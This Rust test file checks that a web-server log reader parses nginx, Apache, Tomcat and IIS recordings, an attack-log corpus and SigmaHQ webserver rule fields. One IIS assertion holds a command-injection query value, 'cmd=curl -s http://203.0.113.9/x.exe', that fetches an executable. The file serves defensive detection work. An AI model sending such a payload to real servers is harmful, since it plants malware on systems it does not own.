//! What recordings of real web servers truly tell, the reader finds: every request with client, method, target, status and bytes;
//! and every line of recordings and of the corpus is a record.
//!
//! The corpus (`../shared/corpus` beside the project) may be absent; its tests then say so and pass.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test that panics has failed")]

mod common;

use std::{
    collections::BTreeMap,
    fs,
    net::IpAddr,
    path::{Path, PathBuf},
    sync::Arc,
};

use common::corpus;
use event::{Class, Detector, Encoding, Event, Interest, LogSource, Piece, Seen, TextGroup, Time};
use evidence::{Format, Layouts, Output, W3c, Web};
use serde_json::Value;

/// Values of a record, by field.
type Fields = BTreeMap<String, Vec<String>>;

/// Keeps all records it is shown, and holds that the fields it asks for are those that a whole record has.
struct Keeper {
    records: Vec<(Option<Time>, Fields)>,
    wanted: Vec<String>,
}

impl Keeper {
    fn new() -> Self {
        let names = ["cs-uri-query", "c-ip", "sc-status", "cs-user-agent", "message", "cs-uri-stem", "cs-uri", "rt"];
        Self { records: Vec::new(), wanted: names.map(str::to_owned).to_vec() }
    }
}

impl Detector for Keeper {
    fn class(&mut self, source: &LogSource<'_>) -> Class {
        assert_eq!((source.product, source.event_id), ("web", 0));
        Class(0)
    }

    fn interest(&self, _class: Class) -> Arc<Interest> {
        Arc::new(Interest { wanted: true, fields: self.wanted.clone(), ..Interest::default() })
    }

    fn text_hits(&mut self, _: TextGroup, _: &[u8], _: Encoding, _: &mut Vec<usize>) -> bool {
        false
    }

    fn look(&mut self, event: &Event<'_>, _: &mut Seen) {
        let mut whole = Fields::new();
        event.record.visit(&mut |name, value| {
            whole.entry(name.to_owned()).or_default().push(value.text().into_owned());
        });
        let mut decoded = Fields::new();
        for (slot, value) in event.fields {
            decoded.entry(self.wanted[usize::from(*slot)].clone()).or_default().push(value.text().into_owned());
        }
        let expected: Fields =
            whole.iter().filter(|(name, _)| self.wanted.contains(name)).map(|(n, v)| (n.clone(), v.clone())).collect();
        assert_eq!(decoded, expected, "what was asked for is what a whole record has");
        self.records.push((event.time, whole));
    }
}

fn read_bytes(format: &dyn Format, name: &str, bytes: &[u8]) -> (Keeper, Output) {
    assert!(format.recognises(&bytes[..bytes.len().min(64 << 10)], ""), "{name} is not recognised");
    let (mut keeper, mut output) = (Keeper::new(), Output::default());
    let (mut cutter, mut reader, mut input) = (format.cutter(), format.reader(), bytes);
    let piece = Arc::new(Piece { path: name.to_owned() });
    while let Some(block) = cutter.cut(&mut input).unwrap() {
        reader.read(&piece, &block, &mut keeper, &mut output);
    }
    (keeper, output)
}

fn read(format: &dyn Format, path: &Path) -> (Keeper, Output) {
    read_bytes(format, path.to_str().unwrap(), &fs::read(path).unwrap())
}

fn recording(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/recordings").join(name)
}

fn described(name: &str) -> Web {
    Web::with(Layouts::parse(&fs::read_to_string(recording(name)).unwrap()).unwrap())
}

/// The first value of a field: what was sent.
fn first<'f>(fields: &'f Fields, name: &str) -> &'f str {
    fields.get(name).and_then(|values| values.first()).map_or("", String::as_str)
}

/// Text of the truth; bytes that are not UTF-8 stand there in hexadecimal.
fn text(truth: &Value, name: &str) -> String {
    let hex = truth[format!("{name}_hex")].as_str().unwrap_or_default();
    let bytes: Vec<u8> =
        (0..hex.len()).step_by(2).map(|at| u8::from_str_radix(&hex[at..at + 2], 16).unwrap()).collect();
    if hex.is_empty() {
        truth[name].as_str().unwrap_or_default().to_owned()
    } else {
        String::from_utf8_lossy(&bytes).into()
    }
}

fn requests(folder: &str) -> Vec<Value> {
    let path = recording(folder).join("requests.expected.jsonl");
    let lines = fs::read_to_string(path).unwrap();
    let all = lines.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    // Apache and Tomcat do not tell of empty lines.
    all.filter(|truth| truth["source"].is_string() && (folder == "nginx" || truth["happened"] != "empty lines"))
        .collect()
}

/// What a log of this form tells of a request.
struct Tells {
    target: bool,
    version: bool,
    agent: bool,
    bytes: bool,
}

const ALL: Tells = Tells { target: true, version: true, agent: true, bytes: true };

/// Compares the records of a log with what was truly asked and answered.
fn compare(folder: &str, name: &str, format: &dyn Format, tells: &Tells) {
    let (keeper, output) = read(format, &recording(folder).join(name));
    assert_eq!(output.damages, [], "{folder}/{name}");
    let truth = requests(folder);
    assert_eq!(keeper.records.len(), truth.len(), "{folder}/{name}");
    for ((time, fields), truth) in keeper.records.iter().zip(&truth) {
        let place = format!("{folder}/{name}: {truth} {fields:?}");
        let address = |text: &str| text.parse::<IpAddr>().unwrap();
        if !first(fields, "c-ip").is_empty() {
            assert_eq!(address(first(fields, "c-ip")), address(truth["source"].as_str().unwrap()), "{place}");
        }
        let (begun, ended) = (truth["begun"].as_f64().unwrap(), truth["ended"].as_f64().unwrap());
        let seconds = time.unwrap().as_nanos() as f64 / 1e9;
        assert!(begun.floor() - 1.0 <= seconds && seconds <= ended + 1.0, "{place}");
        if let Some(status) = truth["status"].as_u64() {
            assert_eq!(first(fields, "sc-status"), status.to_string(), "{place}");
        }
        // Broken requests are written as each server understood them.
        if truth["happened"].is_string() {
            continue;
        }
        let status = truth["status"].as_u64().unwrap();
        let understood = !first(fields, "cs-method").is_empty() && !first(fields, "cs-uri").is_empty();
        assert!(understood || status == 400 || status == 414, "{place}");
        // A line that is too long is cut by the server.
        if !understood || status == 414 {
            continue;
        }
        assert_eq!(first(fields, "cs-method"), text(truth, "method"), "{place}");
        let target = text(truth, "target");
        // Tomcat leaves out a host that it does not accept.
        let target = target.strip_prefix("http://www.example.com").filter(|_| folder == "tomcat").unwrap_or(&target);
        if tells.target {
            assert_eq!(first(fields, "cs-uri"), target, "{place}");
        }
        if tells.version {
            assert_eq!(first(fields, "cs-version"), text(truth, "version"), "{place}");
        }
        if tells.agent && status != 400 && status != 414 {
            assert_eq!(first(fields, "cs-user-agent").trim_end(), text(truth, "user_agent"), "{place}");
        }
        if let Some(bytes) = truth["body_bytes"].as_u64().filter(|bytes| tells.bytes && *bytes > 0) {
            assert_eq!(first(fields, "sc-bytes"), bytes.to_string(), "{place}");
        }
    }
}

#[test]
fn every_request_to_nginx_is_found() {
    let web = Web::default();
    compare("nginx", "combined.log", &web, &ALL);
    compare("nginx", "timed.log", &web, &ALL);
    compare("nginx", "json.log", &web, &Tells { target: false, ..ALL });
    // Without its description nobody knows that a backslash means itself there.
    compare("nginx", "escape-none.log", &web, &Tells { bytes: false, target: false, agent: false, ..ALL });
    let web = described("nginx/nginx.conf");
    for name in ["combined.log", "timed.log"] {
        compare("nginx", name, &web, &ALL);
    }
    compare("nginx", "escape-none.log", &web, &Tells { bytes: false, ..ALL });
    compare("nginx", "bars.log", &web, &Tells { target: false, version: false, bytes: false, agent: true });
}

#[test]
fn every_request_to_apache_is_found() {
    let web = Web::default();
    // %O counts the head of the answer, too.
    compare("apache2", "common.log", &web, &Tells { bytes: false, agent: false, ..ALL });
    compare("apache2", "combined.log", &web, &Tells { bytes: false, ..ALL });
    compare("apache2", "vhost_combined.log", &web, &Tells { bytes: false, ..ALL });
    let web = described("apache2/apache2.conf");
    compare("apache2", "vhost_combined.log", &web, &Tells { bytes: false, ..ALL });
    compare("apache2", "custom.log", &web, &Tells { target: false, ..ALL });
}

#[test]
fn every_request_to_tomcat_is_found() {
    let web = Web::default();
    compare("tomcat", "localhost_access_log.txt", &web, &Tells { agent: false, ..ALL });
    compare("tomcat", "combined.txt", &web, &ALL);
    compare("tomcat", "custom.txt", &described("tomcat/server.xml"), &ALL);
    compare("tomcat", "extended.txt", &W3c::default(), &Tells { version: false, ..ALL });
}

/// Composed by hand: columns that change within a file.
#[test]
fn iis_is_read_by_its_header() {
    let (keeper, output) = read(&W3c::default(), &recording("by-hand/iis-w3c.log"));
    assert_eq!(output.damages, []);
    let lines = fs::read_to_string(recording("by-hand/iis-w3c.expected.jsonl")).unwrap();
    let truth: Vec<Value> = lines.lines().skip(1).map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(keeper.records.len(), truth.len());
    for ((time, fields), truth) in keeper.records.iter().zip(&truth) {
        assert_eq!(time.unwrap().to_string(), truth["time"].as_str().unwrap());
        let agent = fields.get("cs-user-agent").and_then(|values| values.last()).map_or("", String::as_str);
        assert_eq!(agent, text(truth, "user_agent"), "{fields:?}");
        for (field, name) in [
            ("c-ip", "source"),
            ("cs-method", "method"),
            ("cs-uri", "target"),
            ("cs-username", "user"),
            ("cs-host", "host"),
        ] {
            assert_eq!(first(fields, field), text(truth, name), "{fields:?}");
        }
        assert_eq!(first(fields, "sc-status"), truth["status"].to_string(), "{fields:?}");
        assert_eq!(first(fields, "time-taken"), truth["time_taken_ms"].to_string(), "{fields:?}");
    }
    assert_eq!(keeper.records[6].1["cs-uri-query"][1], "cmd=curl -s http://203.0.113.9/x.exe");
}

#[test]
fn error_logs_are_read() {
    for (name, lines) in [("nginx/error.log", 20), ("apache2/error.log", 20)] {
        let (keeper, output) = read(&Web::default(), &recording(name));
        assert_eq!(output.damages, [], "{name}");
        let expected =
            fs::read(recording(name)).unwrap().split(|byte| *byte == b'\n').filter(|line| !line.is_empty()).count();
        assert!(expected > lines && keeper.records.len() == expected, "{name}: {expected}");
        let with = |field: &str| keeper.records.iter().filter(|(_, fields)| fields.contains_key(field)).count();
        assert_eq!(with("message"), expected, "{name}");
        assert_eq!(with("severity"), expected, "{name}");
        assert!(with("c-ip") > 10, "{name}");
    }
}

/// How the file is cut into blocks does not matter, nor does what follows or is cut off.
#[test]
fn parts_of_recordings_are_read_like_the_whole() {
    for name in ["nginx/error.log", "apache2/combined.log", "tomcat/localhost_access_log.txt"] {
        let text = fs::read(recording(name)).unwrap();
        let large = text.repeat(700_000 / text.len() + 2);
        let (one, _) = read(&Web::default(), &recording(name));
        let (many, output) = read_bytes(&Web::default(), name, &large);
        assert_eq!(output.damages, [], "{name}");
        assert_eq!(many.records.len(), one.records.len() * (700_000 / text.len() + 2), "{name}");
        assert_eq!(many.records.last(), one.records.last(), "{name}");
    }
    let text = fs::read(recording("by-hand/iis-w3c.log")).unwrap();
    let (many, output) = read_bytes(&W3c::default(), "iis", &text.repeat(300));
    assert_eq!((many.records.len(), output.damages.len()), (2400, 0));
    assert_eq!(first(&many.records[2399].1, "cs-version"), "HTTP/1.0");
}

/// All files under a folder, in order.
fn files(folder: &Path, found: &mut Vec<PathBuf>) {
    let mut paths: Vec<PathBuf> = fs::read_dir(folder).into_iter().flatten().flatten().map(|e| e.path()).collect();
    paths.sort();
    for path in paths {
        if path.is_dir() { files(&path, found) } else { found.push(path) }
    }
}

/// Folders of the corpus that hold logs of web servers, and other programs' logs in their formats.
const FOLDERS: [&str; 34] = [
    "apache-cve-2021-41773",
    "apache-http-probing",
    "apache2-logs",
    "apache2-malformed",
    "nginx-bad-user-agent",
    "nginx-http-backdoor",
    "nginx-http-open-proxy",
    "nginx-http-path-traversal",
    "nginx-http-sensitive-files",
    "nginx-http-sqli-probing",
    "nginx-http-xss-probing",
    "nginx-mail-bf",
    "nginx-mail-logs",
    "nginx-proxy-manager-malformed",
    "nginx_http-catch-npm",
    "npmplus-logs",
    "modsecurity-logs-nginx",
    "http-cve-probing",
    "http-dos-bypass-cache",
    "http-dos-invalid-http-versions",
    "http-dos-switching-ua",
    "http-wordpress_user-enum",
    "bunkerweb-http-path-traversal",
    "bunkerweb-logs",
    "CVE-2022-26134",
    "CVE-2022-35914",
    "CVE-2022-44877",
    "CVE-2022-46169",
    "CVE-2023-22518",
    "CVE-2025-0108",
    "grafana_cve-2021-43798",
    "spring4shell_cve-2022-22965",
    "thinkphp-cve-2018-20062",
    "vmware-cve-2022-22954",
];

#[test]
fn every_line_of_the_corpus_is_a_record() {
    let mut paths = Vec::new();
    if let Some(crowdsec) = corpus("crowdsec") {
        FOLDERS.iter().for_each(|folder| files(&crowdsec.join(folder), &mut paths));
        paths.retain(|path| path.extension().is_some_and(|extension| extension == "log"));
        assert!(paths.len() >= FOLDERS.len());
    }
    paths.extend(corpus("loghub/Apache").map(|folder| folder.join("Apache_2k.log")));
    let samples = corpus("evtx/attack-samples/Command and Control");
    paths.extend(samples.as_ref().map(|folder| folder.join("web_attack_and_isp_webshell_localhost_access_log.txt")));
    let mut records = 0;
    for path in &paths {
        let (keeper, output) = read(&Web::default(), path);
        assert_eq!(output.damages, [], "{}", path.display());
        let lines = fs::read(path).unwrap();
        let lines = lines.split(|byte| *byte == b'\n').filter(|line| !line.trim_ascii().is_empty()).count();
        assert_eq!(keeper.records.len(), lines, "{}", path.display());
        for (time, fields) in &keeper.records {
            assert!(time.is_some(), "{}: {fields:?}", path.display());
            assert!(
                fields.contains_key("message") || fields.contains_key("c-ip") && fields.contains_key("sc-status"),
                "{}: {fields:?}",
                path.display()
            );
        }
        records += keeper.records.len();
    }
    eprintln!("{} files, {records} records", paths.len());
    if let Some(folder) = samples {
        let path = folder.join("Tunna_rdp_tunnel_IIS.log");
        let (keeper, output) = read(&W3c::default(), &path);
        assert_eq!(output.damages, []);
        let text = fs::read_to_string(path).unwrap();
        let lines = text.lines().filter(|line| !line.trim().is_empty() && !line.starts_with('#')).count();
        assert_eq!(keeper.records.len(), lines);
        assert!(keeper.records.iter().all(|(time, fields)| time.is_some() && fields.contains_key("cs-uri")));
    }
}

/// Fields that SigmaHQ's rules for web servers ask for and the reader can give.
#[test]
fn no_rule_asks_for_a_field_that_no_log_has() {
    let Some(sigma) = corpus("sigma") else { return };
    let known = fs::read_to_string(recording("../../docs/fields.md")).unwrap();
    let mut paths = Vec::new();
    files(&sigma, &mut paths);
    let (mut rules, mut unknown) = (0, Vec::new());
    for path in paths.iter().filter(|path| path.extension().is_some_and(|extension| extension == "yml")) {
        let text = fs::read_to_string(path).unwrap();
        if !text.lines().any(|line| line.trim() == "category: webserver") {
            continue;
        }
        rules += 1;
        for line in text.lines() {
            let name = line.trim().trim_start_matches("- ").split([':', '|']).next().unwrap();
            let is_field =
                ["cs-", "sc-", "c-", "s-"].iter().any(|start| name.starts_with(start)) && !name.contains(' ');
            if is_field && line.contains(':') && !known.contains(&format!("`{name}`")) {
                unknown.push(format!("{}: {name}", path.display()));
            }
        }
    }
    assert!(rules > 50);
    assert_eq!(unknown, Vec::<String>::new());
}
